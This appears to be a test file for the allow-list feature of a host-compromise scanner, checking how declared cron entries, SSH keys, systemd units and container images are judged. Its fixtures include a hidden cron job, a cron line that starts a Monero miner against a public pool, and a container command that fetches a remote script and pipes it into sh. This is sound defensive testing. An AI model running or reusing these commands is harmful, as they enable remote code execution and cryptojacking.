import { createHash } from 'node:crypto';
import { describe, expect, it } from 'vitest';
import { type AllowEntry, type Declaration, declarationId } from '../../../src/findings/allow.ts';
import { entryFor } from '../../../src/findings/allow-list.ts';
import { findingOf, makeTree, publicKey, scanTree } from './tree.ts';

const WALLET = `4A${'DRiLLNotAReaLWaLLet'.padEnd(93, '7')}`;
const sha256 = (text: string) => createHash('sha256').update(text).digest('hex');
const declared = (entry: AllowEntry): Declaration => ({
  id: declarationId(entry),
  entry,
  reason: 'our probe',
  by: 'ana',
});

const PROBE = '#!/bin/sh\nchattr +i /srv/x\n';
const tree = (text = PROBE) =>
  makeTree({
    '/etc/cron.d/probe': '*/5 * * * * root /var/tmp/.probe/run >/dev/null 2>&1\n',
    '/var/tmp/.probe/run': { text, mode: 0o755 },
  });
const PATH = '/var/tmp/.probe/run';
const own = declared({ kind: 'file', path: PATH, sha256: sha256(PROBE) });

describe('what is declared ours', () => {
  it('is benign and says so, and stays in the list', async () => {
    const before = await scanTree(tree());
    expect(findingOf(before, PATH)?.verdict).toMatch(/malicious|suspicious/);
    const after = await scanTree(tree(), {}, undefined, { allow: [own] });
    const file = after.findings.find(({ title }) => title === PATH);
    expect(file).toMatchObject({ verdict: 'benign', score: 0 });
    expect(file?.reasons[0]?.text).toBe(
      `allow list: file ${PATH} (sha256 ${sha256(PROBE).slice(0, 16)}…), declared ours by ana: our probe`,
    );
  });

  it('is suspicious again once its content is another, though nothing else speaks against it', async () => {
    const entry = { kind: 'file', path: '/opt/probe/run', sha256: sha256('#!/bin/sh\n') } as const;
    const allow = [declared(entry)];
    const scan = (text: string) =>
      scanTree(makeTree({ [entry.path]: { text, mode: 0o755 } }), {}, undefined, { allow });
    expect(findingOf(await scan('#!/bin/sh\n'), entry.path)).toBeUndefined();
    const changed = findingOf(await scan('#!/bin/sh\nexit 0\n'), entry.path);
    expect(changed).toMatchObject({ verdict: 'suspicious' });
    expect(changed?.reasons[0]?.text).toMatch(/was declared ours by ana .* its content is another now/);
  });

  it('is not believed against strong evidence: a wallet at a pool', async () => {
    const line = `* * * * * root /var/tmp/.probe/run -o stratum+tcp://pool.supportxmr.com:3333 -u ${WALLET}`;
    const root = makeTree({ '/etc/cron.d/probe': `# x\n${line}\n15 3 * * * root /bin/true\n` });
    const allow = [declared({ kind: 'line', path: '/etc/cron.d/probe', line })];
    const finding = findingOf(await scanTree(root, {}, undefined, { allow }), 'supportxmr');
    expect(finding).toMatchObject({ verdict: 'suspicious' });
    expect(finding?.reasons[0]?.text).toMatch(/^allow list: .* That is not believed, because: /);
  });

  it('can be a key, a line, a unit or an account, each by what tells it from another', async () => {
    const key = publicKey('a');
    const root = makeTree({
      '/home/ann/.ssh/authorized_keys': `${key} ann@desk\n${publicKey('b')} bob@desk\n`,
      '/etc/systemd/system/probe.service': '[Service]\nExecStart=/var/tmp/.probe/run\n',
    });
    const first = await scanTree(root);
    const wanted = [findingOf(first, key), first.findings.find(({ subject }) => subject.kind === 'unit')];
    const entries = wanted.map((finding) => {
      const entry = finding && entryFor(finding);
      if (entry === undefined || 'whyNot' in entry) throw new Error('not to be declared');
      return entry;
    });
    expect(entries.map(({ kind }) => kind)).toEqual(['key', 'unit']);
    const after = await scanTree(root, {}, undefined, { allow: entries.map(declared) });
    for (const finding of wanted)
      expect(after.findings.find(({ id }) => id === finding?.id)?.reasons[0]?.code).toBe('allow-list');
    expect(findingOf(after, publicKey('b'))?.reasons[0]?.code).not.toBe('allow-list');
  });

  it('can be an image, and is asked about again once its name stands for another', async () => {
    const container = (imageId: string) =>
      makeTree({
        [`/var/lib/docker/containers/${'a'.repeat(64)}/config.v2.json`]: JSON.stringify({
          Name: '/probe',
          Image: `sha256:${imageId}`,
          Path: '/bin/sh',
          Args: ['-c', 'wget -qO- http://203.0.113.7/p.sh | sh'],
          Config: { Image: 'registry.example/probe:3' },
        }),
      });
    const before = findingOf(await scanTree(container('1'.repeat(64))), 'probe');
    expect(before?.verdict).not.toBe('benign');
    const entry = before && entryFor(before);
    expect(entry).toEqual({ kind: 'image', image: 'registry.example/probe:3', sha256: '1'.repeat(64) });
    const allow = [declared(entry as AllowEntry)];
    const scan = (root: string) => scanTree(root, {}, undefined, { allow });
    expect(findingOf(await scan(container('1'.repeat(64))), 'probe')?.verdict).toBe('benign');
    expect(findingOf(await scan(container('2'.repeat(64))), 'probe')?.reasons[0]?.code).toBe(
      'allow-list-changed',
    );
  });
});
